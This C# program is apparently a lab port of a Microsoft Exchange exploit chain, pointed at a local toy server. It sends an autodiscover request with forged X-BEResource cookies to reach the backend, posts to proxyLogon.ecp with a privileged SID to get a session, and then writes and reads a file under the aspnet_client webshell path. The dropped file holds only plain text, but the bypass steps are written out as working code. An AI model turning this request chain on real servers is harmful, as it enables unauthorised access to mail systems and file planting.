// C# port of the lab request chain (HttpClient / HttpRequestMessage); toy server on 127.0.0.1 only.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Net.Http;
using System.Text;
using System.Threading.Tasks;

namespace LabChain
{
    internal static class Wire
    {
        public const string ChromeVersion = "88.0.4324.190";
        public const string Domain = "lab.invalid";
        public const int NoteId = 91453;
        public const long Ticket = 1843073522L;
        public static readonly string Agent =
            $"Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{ChromeVersion} Safari/537.36";
        public static readonly string NotePath = string.Format("/aspnet_client/system_web/readme_{0}.txt", NoteId);
        public static readonly string Mailbox = "administrator@" + Domain;
    }

    internal static class Program
    {
        private static void Browser(HttpRequestMessage req)
        {
            req.Headers.TryAddWithoutValidation("User-Agent", Wire.Agent);
            req.Headers.TryAddWithoutValidation("x-requested-with", "XMLHttpRequest");
            req.Headers.TryAddWithoutValidation("Accept", "*/*");
            req.Headers.TryAddWithoutValidation("accept-language", "en-US,en;q=0.9");
            req.Headers.TryAddWithoutValidation("connection", "close");
        }

        private static async Task<(int, string)> Send(HttpClient http, HttpRequestMessage req)
        {
            using var res = await http.SendAsync(req);
            return ((int)res.StatusCode, await res.Content.ReadAsStringAsync());
        }

        private static async Task<int> Main(string[] args)
        {
            var port = args.Length > 0 ? args[0] : "8080";
            using var http = new HttpClient { BaseAddress = new Uri($"http://127.0.0.1:{port}"), Timeout = TimeSpan.FromSeconds(10) };

            var query = string.Join("&", new[]
            {
                "Pad=" + new string('A', 37),
                "Protocol=Autodiscoverv1",
                "Email=" + Uri.EscapeDataString(Wire.Mailbox + "/mapi/nspi"),
                "RequestId=20200302-7720",
            });
            var probe = new HttpRequestMessage(HttpMethod.Get, "/autodiscover/autodiscover.json?" + query);
            Browser(probe);
            var backend = $"localhost@{Wire.Domain}/ews/exchange.asmx?a%3D~{Wire.Ticket}";
            probe.Headers.TryAddWithoutValidation("cookie", $"X-AnonResource=true; X-AnonResource-Backend={Wire.Domain}; X-BEResource={backend}");
            var (status, _) = await Send(http, probe);
            if (status >= 500)
            {
                return 1;
            }

            var logon = new HttpRequestMessage(HttpMethod.Post, "/ecp/proxyLogon.ecp");
            logon.Headers.TryAddWithoutValidation("user-agent", Wire.Agent);
            logon.Headers.TryAddWithoutValidation("msexchlogonmailbox", "S-1-5-20");
            logon.Headers.TryAddWithoutValidation("X-BEResource", $"localhost@{Wire.Domain}/ecp/proxyLogon.ecp");
            logon.Content = new StringContent(
                $"{{\"mailbox\": \"{Wire.Mailbox}\", \"requestKind\": \"identity\", \"seq\": 1}}", Encoding.UTF8, "application/json");
            var (code, reply) = await Send(http, logon);
            var who = code == 200 && reply.Trim().Length > 0 ? reply.Trim() : "anonymous";

            var text = string.Join("\n", Enumerable.Range(1, 3).Select(i => $"note {i} of 3 for {who}"));
            var note = new HttpRequestMessage(HttpMethod.Post, Wire.NotePath)
            {
                Content = new StringContent(text, Encoding.UTF8, "text/plain"),
            };
            note.Headers.TryAddWithoutValidation("user-agent", Wire.Agent);
            note.Headers.TryAddWithoutValidation("X-Note-Path", Wire.NotePath);
            await Send(http, note);

            var check = new HttpRequestMessage(HttpMethod.Get, Wire.NotePath);
            Browser(check);
            var (_, back) = await Send(http, check);
            Console.WriteLine(back.Length);
            return 0;
        }
    }
}
